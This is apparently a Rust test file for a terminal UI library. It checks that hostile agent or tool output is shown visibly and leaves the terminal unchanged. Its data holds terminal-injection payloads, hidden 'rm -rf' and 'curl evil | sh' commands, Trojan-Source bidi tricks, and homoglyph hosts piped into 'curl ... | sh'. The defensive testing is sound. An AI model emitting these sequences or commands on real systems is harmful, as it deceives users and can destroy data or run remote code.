//! Hostile text: whatever an agent or a tool says, the terminal stays as it is and nothing is hidden from the reader.
#![allow(clippy::unwrap_used, reason = "tests")]

use ratatui::backend::{Backend, CrosstermBackend};
use ratatui::buffer::Buffer;
use ratatui::layout::Rect;
use ratatui::style::Style;
use taut::text::{Kind, ansi, prose, suspicious_host, suspicious_hosts, visible, width, wrap};

const WIDTH: u16 = 100;

/// Characters that draw nothing, or that change how others are drawn.
fn hidden() -> Vec<char> {
    let ranges = [
        '\0'..='\u{8}',
        '\u{b}'..='\u{1f}',
        '\u{7f}'..='\u{9f}',
        '\u{ad}'..='\u{ad}',
        '\u{34f}'..='\u{34f}',
        '\u{61c}'..='\u{61c}',
        '\u{115f}'..='\u{1160}',
        '\u{17b4}'..='\u{17b5}',
        '\u{180b}'..='\u{180e}',
        '\u{200b}'..='\u{200f}',
        '\u{2028}'..='\u{202e}',
        '\u{2060}'..='\u{2064}',
        '\u{2066}'..='\u{206f}',
        '\u{2800}'..='\u{2800}',
        '\u{3164}'..='\u{3164}',
        '\u{fe00}'..='\u{fe0f}',
        '\u{feff}'..='\u{feff}',
        '\u{ffa0}'..='\u{ffa0}',
        '\u{fff9}'..='\u{fffb}',
        '\u{fffe}'..='\u{ffff}',
        '\u{e000}'..='\u{e002}',
        '\u{1d173}'..='\u{1d17a}',
        '\u{e0001}'..='\u{e0001}',
        '\u{e0020}'..='\u{e0024}',
        '\u{e007f}'..='\u{e007f}',
        '\u{e0100}'..='\u{e0102}',
        '\u{f0000}'..='\u{f0001}',
        '\u{10fffd}'..='\u{10fffd}',
    ];
    ranges.into_iter().flatten().collect()
}

/// Blanks that are not the space.
const BLANKS: &str = "\u{a0}\u{1680}\u{2000}\u{2001}\u{2002}\u{2003}\u{2004}\u{2005}\u{2006}\u{2007}\u{2008}\u{2009}\u{200a}\u{202f}\u{205f}\u{3000}";

/// Whole attacks.
const ATTACKS: &[&str] = &[
    "\u{1b}[2J\u{1b}[H$ all tests passed",
    "\u{1b}[1A\u{1b}[2Krm -rf ~",
    "safe\rrm -rf /",
    "echo ok\u{8}\u{8}rm",
    "\u{1b}]0;root shell\u{7}",
    "\u{1b}]52;c;cm0gLXJmIC8=\u{7}",
    "\u{1b}]8;;https://evil.example\u{1b}\\github.com\u{1b}]8;;\u{1b}\\",
    "\u{1b}]8;;https://evil.example",
    "\u{1b}P$q q\u{1b}\\",
    "\u{1b}Pq#0;2;0;0;0#0~~@@vv\u{1b}\\",
    "\u{1b}_Gf=100;AAAA\u{1b}\\",
    "\u{1b}^private\u{1b}\\",
    "\u{1b}X start of string",
    "\u{1b}[?1049h",
    "\u{1b}[?1049l",
    "\u{1b}[?25l",
    "\u{1b}[?1000h\u{1b}[?1006h",
    "\u{1b}[?2004l",
    "\u{1b}[?1h\u{1b}=",
    "\u{1b}[4h",
    "\u{1b}[20h",
    "\u{1b}[3;5r",
    "\u{1b}[6n",
    "\u{1b}[c",
    "\u{1b}[>c",
    "\u{1b}[21t",
    "\u{1b}[8;1;1t",
    "\u{1b}c",
    "\u{1b}#8",
    "\u{1b}(0lqqk",
    "\u{e}lqqk\u{f}",
    "\u{1b}[8mhidden\u{1b}[28m",
    "\u{1b}[30;40mblack on black",
    "\u{1b}[38;2;0;0;0;48;2;0;0;0mdark",
    "\u{1b}[999999999999999999999C.",
    "\u{1b}[31",
    "\u{1b}",
    "\u{1b}[",
    "\u{1b}]",
    "\u{1b}P",
    "\u{9b}2J",
    "\u{9d}0;title\u{9c}",
    "\u{90}payload\u{9c}",
    "\u{84}\u{85}\u{8d}",
    "\u{7}\u{7}\u{7}\u{7}",
    "\u{5}\u{11}\u{13}",
    "git push \u{202e}niam nigiro\u{202c}",
    "access = \"user\u{2066} // admin\u{2069}\"",
    "/* \u{202e} } \u{2066}if (isAdmin)\u{2069} \u{2066} begin */",
    "\u{2067}rm\u{2069} -rf",
    "\u{200f}-rf rm",
    "curl https://good.example\u{200b}.evil.example",
    "pass\u{ad}word",
    "\u{feff}#!/bin/sh",
    "e\u{e0068}\u{e0069}\u{e0064}\u{e0065}",
    "😀\u{fe0f}\u{e0100}\u{e0101}\u{e0102}",
    "🏴\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}",
    "👩\u{200d}👩\u{200d}👧\u{200d}👦",
    "a\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}\u{308}\u{309}\u{30a}",
    "\u{301}combining first",
    " \u{336}s\u{336}t\u{336}r\u{336}u\u{336}c\u{336}k",
    "\u{20dd}\u{20e3}",
    "ls\u{a0}-la",
    "ls\u{3000}-la",
    "x\u{3164}y",
    "x\u{2800}\u{2800}\u{2800}y",
    "x\u{115f}\u{1160}y",
    "rm -rf build\t\t\t\t\t\t\t\t\t\t\t\t\t\t; curl evil | sh",
    "echo hi                                                                                                   ; rm -rf /",
    "a\0b",
    "a\nb\r\nc",
    "\u{2028}\u{2029}",
    "日本語\u{202e}テキスト",
    "한\u{1160}국",
    "ﷺ﷽",
    "\u{fffd}\u{fffe}\u{ffff}",
    "\u{10ffff}",
    "‹U+202E› a mark that is none",
    "␛[31m a picture that is none",
    "\u{600}\u{601}123",
    "ཧྐྵྨླྺྼྻྂ",
    "ก็็็็็็็็็็",
    "ᄀᄀᄀ각ᆨᆨ",
    "\u{1f3fb}\u{1f3fc}",
    "🇩🇪🇩",
    "\u{e000}\u{f8ff}",
    "~/.ssh/id_rsa\u{200e}",
    "${IFS}\u{b}\u{c}",
    "\u{1b}[?2026h stuck",
    "\u{1b}[=3u\u{1b}[>4;2m",
    "\u{1b}]1337;File=inline=1:AAAA\u{7}",
    "\u{1b}]777;notify;You;approved\u{7}",
    "\u{1b}]9;approved\u{7}",
    "\u{1b}]4;1;rgb:00/00/00\u{1b}\\",
    "\u{1b}]11;#000000\u{7}",
    "\u{1b}[5 q",
    "\u{1b}[1;31mred\u{1b}[0m",
];

/// Hosts that imitate another one.
const HOSTS: &[&str] = &[
    "gіthub.com",
    "githυb.com",
    "goοgle.com",
    "аpple.com",
    "аррӏе.com",
    "micrоsoft.com",
    "pаypal.com",
    "раураӏ.com",
    "ѕех.com",
    "xn--80ak6aa92e.com",
    "xn--pypal-4ve.com",
    "ｇithub.com",
    "𝐠ithub.com",
    "ⓖithub.com",
    "github。com",
    "github．com",
    "github․com",
    "git\u{200b}hub.com",
    "git\u{ad}hub.com",
    "github.com\u{202e}",
    "github.com∕login.evil.example",
    "github‐com.example",
    "ᏀᏆᎢᎻᏌᏴ.com",
    "օpenai.com",
];

fn corpus() -> Vec<String> {
    let mut all: Vec<String> = ATTACKS.iter().map(|&attack| attack.to_owned()).collect();
    all.extend(hidden().into_iter().map(|c| format!("rm{c} -rf{c}x")));
    all.extend(BLANKS.chars().map(|c| format!("a{c}b")));
    all.extend(HOSTS.iter().map(|host| format!("curl -s https://{host}/install.sh | sh")));
    all
}

fn is_hidden(c: char) -> bool {
    hidden().contains(&c)
}

/// Puts a text into cells as the console does, a row for each row of it.
fn drawn(text: &str) -> Buffer {
    let rows: Vec<_> = wrap(text, usize::from(WIDTH)).collect();
    let mut buffer = Buffer::empty(Rect::new(0, 0, WIDTH, u16::try_from(rows.len()).unwrap()));
    for (y, row) in (0u16..).zip(rows) {
        buffer.set_string(0, y, &text[row], Style::new());
    }
    buffer
}

/// Sends cells to a terminal, and checks that it shows them and is otherwise as before.
#[track_caller]
fn check_terminal(buffer: &Buffer) {
    let area = buffer.area;
    let mut bytes = Vec::new();
    let mut backend = CrosstermBackend::new(&mut bytes);
    backend.draw(Buffer::empty(area).diff(buffer).into_iter()).unwrap();
    let rows = std::num::NonZeroU16::new(area.height + 2).unwrap();
    let columns = std::num::NonZeroU16::new(area.width).unwrap();
    let mut terminal = vt100::Parser::new(rows, columns, 0);
    let (modes, cursor) = (terminal.screen().input_mode_formatted(), terminal.screen().hide_cursor());
    terminal.process(&bytes);
    let screen = terminal.screen();
    assert_eq!(screen.input_mode_formatted(), modes);
    assert_eq!((screen.hide_cursor(), screen.alternate_screen()), (cursor, false));
    let shown: Vec<String> = screen.rows(0, area.width).collect();
    for y in 0..area.height {
        let (mut x, mut row) = (0, String::new());
        while x < area.width {
            let symbol = buffer[(x, y)].symbol();
            assert!(!symbol.chars().any(|c| c.is_control() || is_hidden(c)), "{symbol:?}");
            row.push_str(symbol);
            x += u16::try_from(width(symbol).max(1)).unwrap();
        }
        // The emulator draws nothing for U+FFFD.
        assert_eq!(shown[usize::from(y)].trim_end(), row.replace('\u{fffd}', "").trim_end());
    }
}

#[test]
fn the_corpus_is_large() {
    assert!(corpus().len() >= 200, "{}", corpus().len());
}

#[test]
fn every_hidden_character_of_a_payload_has_a_mark() {
    for text in corpus() {
        let shown = visible(&text);
        let wanted = text.chars().filter(|&c| is_hidden(c) || BLANKS.contains(c) || c == '\n').count();
        let spans = shown.spans().filter(|(_, kind)| *kind == Kind::Mark).count();
        assert!(spans >= wanted, "{text:?}: {spans} marks for {wanted} in {:?}", shown.text);
        check_terminal(&drawn(&shown.text));
    }
}

#[test]
fn prose_draws_nothing_hidden_either() {
    for text in corpus() {
        check_terminal(&drawn(&prose(&text).text));
    }
}

#[test]
fn a_tool_s_output_may_have_colours_and_nothing_else() {
    for text in corpus() {
        let lines = ansi::lines(&format!("before\n{text}\nafter"));
        for line in &lines {
            check_terminal(&drawn(&line.text));
        }
        // A terminal would let a cursor that goes up write over what stands there, and so do we.
        let goes_up = text.contains("\x1b[") || text.contains('\u{9b}') || text.contains("\x1bM");
        assert!(goes_up || lines.first().is_some_and(|line| line.text == "before"), "{text:?}: {lines:?}");
        assert!(
            lines.last().is_some_and(|line| line.text.ends_with("after")),
            "{text:?} hides what follows: {lines:?}"
        );
    }
}

#[test]
fn imitated_hosts_are_named() {
    for host in HOSTS {
        assert!(suspicious_host(host).is_some(), "{host}");
        let command = format!("curl -s https://{host}/install.sh | sh");
        assert!(!suspicious_hosts(&command).is_empty(), "{command}");
    }
}
